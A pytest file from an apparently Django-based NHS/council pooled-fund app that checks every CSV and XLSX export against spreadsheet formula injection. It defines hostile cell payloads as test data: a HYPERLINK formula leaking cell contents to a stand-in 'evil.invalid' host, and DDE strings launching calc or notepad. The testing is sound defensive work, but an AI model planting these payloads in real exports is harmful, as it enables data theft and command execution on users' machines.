"""Every CSV and XLSX download in the project, pages and API, with names that spreadsheet programs would read as
formulas: no cell of any export is a formula, and the hostile text is kept as text.

The downloads are found, not listed: every named page of the project is requested with ?format=csv and
?format=xlsx (and without), and every API operation that takes a `format` parameter likewise, so a download
added later is covered too.
"""

import csv
import datetime as dt
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from jointcare import exports
from jointcare.accounts.domain import Role
from jointcare.organisations.models import Organisation
from jointcare.partnerships.models import Agreement
from jointcare.pool import imports, queries, services
from jointcare.pool.domain import AccountKind
from jointcare.tests import crawl

pytestmark = [pytest.mark.django_db, pytest.mark.one_database]  # how exports write user text: the same on any database

ICB = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")'
COUNCIL = "@SUM(1+1)*cmd|' /C calc'!A0"
AGREEMENT = "+cmd|' /C notepad'!A0"
SCHEME = "=1+1"
SCHEME_TAB = "\t=2+2"
SUPPLIER = "-2+3+cmd|' /C calc'!A0"
REFERENCE = "+44 161 000 0000"
HOSTILE = [ICB, COUNCIL, AGREEMENT, SCHEME, SCHEME_TAB, SUPPLIER, REFERENCE]
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
EXPECTED_PAGES = {"pool:monitoring", "pool:report", "pool:ledger", "pool:contributions"}


@pytest.fixture
def hostile_pool(db):
    icb = Organisation.objects.create(name=ICB, sector="nhs", kind="icb", ods_code="QZZ")
    council = Organisation.objects.create(name=COUNCIL, sector="council", kind="upper_tier_council", gss_code="E06000099")
    agreement = Agreement.objects.create(name=AGREEMENT, kind="section_75_pooled_fund", starts_on=dt.date(2026, 4, 1))
    agreement.parties.create(organisation=council, role="host")
    agreement.parties.create(organisation=icb, role="member")
    pool = services.create_pool(
        None,
        services.PoolSpec(
            agreement=agreement,
            financial_year=2026,
            name="-1 pool",
            host=council,
            contributions=[services.ContributionSpec(icb, 600000), services.ContributionSpec(council, 400000, schedule="monthly")],
            schemes=[
                services.SchemeSpec("REAB", SCHEME, "reablement", council, 500000, [(icb, 6000), (council, 4000)]),
                services.SchemeSpec("EQUIP", SCHEME_TAB, "community_equipment", icb, 500000),
            ],
        ),
    )
    buf = io.StringIO()
    csv.writer(buf).writerows([["reference", "date", "scheme", "amount", "supplier", "description"], [REFERENCE, "2026-04-03", "REAB", "1200.00", SUPPLIER, "@x"]])
    rows = buf.getvalue()
    imports.import_actuals(None, pool, "a.csv", rows.encode())
    contribution = pool.contributions.get(partner=icb)
    services.receive_contribution(None, contribution, 1, dt.date(2026, 4, 10))
    return pool


@pytest.fixture
def everyone(user_factory, hostile_pool):
    """Every role, at the host partner: every page and download of the pool is open to them."""
    return user_factory("eve", roles=[r.value for r in Role], organisation=hostile_pool.host)


def _page_urls(pool):
    return crawl.page_urls(
        {
            "pool": {
                "pk": [pool.pk],
                "kind": list(queries.REPORT_KINDS),
                "tx_id": [pool.transactions.first().pk],
                "number": [1],
                "step": ["agreement"],
            },
            "partnerships": {"pk": [pool.agreement_id], "meeting_pk": [999_999]},
            "organisations": {"pk": [pool.host_id], "code": [pool.host.code]},
            "places": {"fmt": ["csv", "xlsx"]},
            "outcomes": {"fmt": ["csv", "xlsx"], "code": ["2A", "2C"]},
            "people": {"pk": [999_999]},
            "packages": {"person_id": [999_999], "plan_id": [999_999], "service_id": [999_999], "episode_id": [999_999],
                         "follow_up_id": [999_999]},
            "care": {"pk": [999_999], "person_id": [999_999], "practice_pk": [999_999], "section": ["needs"]},
            "cld": {"pk": [999_999]},
        }
    )


def _api_urls(client, pool):
    schema = client.get("/api/v1/openapi.json").json()
    for path, operations in schema["paths"].items():
        get = operations.get("get")
        if not get or not any(p["name"] == "format" for p in get.get("parameters", [])):
            continue
        kinds = queries.REPORT_KINDS if "{kind}" in path else [None]
        for kind in kinds:
            url = path.replace("{pool_id}", str(pool.pk)).replace("{kind}", kind or "")
            yield f"api {path}", url


def _check_csv(label, content: bytes) -> set[str]:
    found = set()
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        for cell in row:
            if cell.startswith(exports.FORMULA_STARTS) and not NUMBER.match(cell):
                pytest.fail(f"{label}: CSV cell {cell!r} would be read as a formula")
            for text in HOSTILE:
                if cell == "'" + text or (cell.startswith("'") and text in cell):
                    found.add(text)
    return found


def _check_xlsx(label, content: bytes) -> set[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, f"{label}: a formula in {name}"
    found = set()
    for ws in load_workbook(io.BytesIO(content)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{label}: {cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    for text in HOSTILE:
                        if text.replace("\r", "\n") in cell.value:
                            assert cell.data_type == "s"
                            found.add(text)
    return found


# Downloads where no hostile name stands at the start of a cell: the coterminosity of the shipped reference data
# (no user text reaches it) and the audit trail (names appear inside longer summaries). Their cells are still
# checked for formulas, but no hostile name can be expected among them. The outcome measures' download holds
# only the measures' own names, council codes and numbers.
REFERENCE_ONLY = {"places:export", "audit:export", "outcomes:export"}


def test_no_export_anywhere_writes_a_formula(client, hostile_pool, everyone):
    client.force_login(everyone)
    seen: dict[str, set[str]] = {}
    requested = list(_page_urls(hostile_pool)) + list(_api_urls(client, hostile_pool))
    for name, url in requested:
        for query in ("", "?format=csv", "?format=xlsx"):
            response = client.get(url + query)
            assert response.status_code < 500, f"{url}{query} answered {response.status_code}"
            kind = response.get("Content-Type", "")
            if kind.startswith("text/csv"):
                found = _check_csv(url + query, response.content)
            elif kind.startswith(exports.CONTENT_TYPES["xlsx"]):
                found = _check_xlsx(url + query, response.content)
            else:
                continue
            assert response["Content-Disposition"].startswith('attachment; filename="')
            if name not in REFERENCE_ONLY:
                assert found, f"{url}{query}: none of the hostile names is in the export, so it tests nothing"
            seen.setdefault(name, set()).update(found)
    assert EXPECTED_PAGES <= set(seen), f"downloads not found: {EXPECTED_PAGES - set(seen)}"
    assert any(name.startswith("api ") for name in seen)
    everything = set().union(*seen.values())
    assert {ICB, COUNCIL, SCHEME, SCHEME_TAB, SUPPLIER, REFERENCE} <= everything


def test_the_cli_report_writes_no_formula(hostile_pool, tmp_path, capsys):
    from django.core.management import call_command

    out = tmp_path / "m.xlsx"
    call_command("pool", "report", "monitoring", "--pool", str(hostile_pool.pk), "--format", "xlsx", "--output", str(out))
    assert SCHEME in _check_xlsx("cli", out.read_bytes())
    call_command("pool", "report", "statement", "--pool", str(hostile_pool.pk), "--format", "csv")
    assert ICB in _check_csv("cli", capsys.readouterr().out.encode())


def test_the_hostile_pool_posted_what_the_exports_show(hostile_pool):
    spend = services.account_for(hostile_pool, AccountKind.SPEND, scheme=hostile_pool.schemes.get(code="REAB"))
    assert spend.postings.get().transaction.reference == REFERENCE
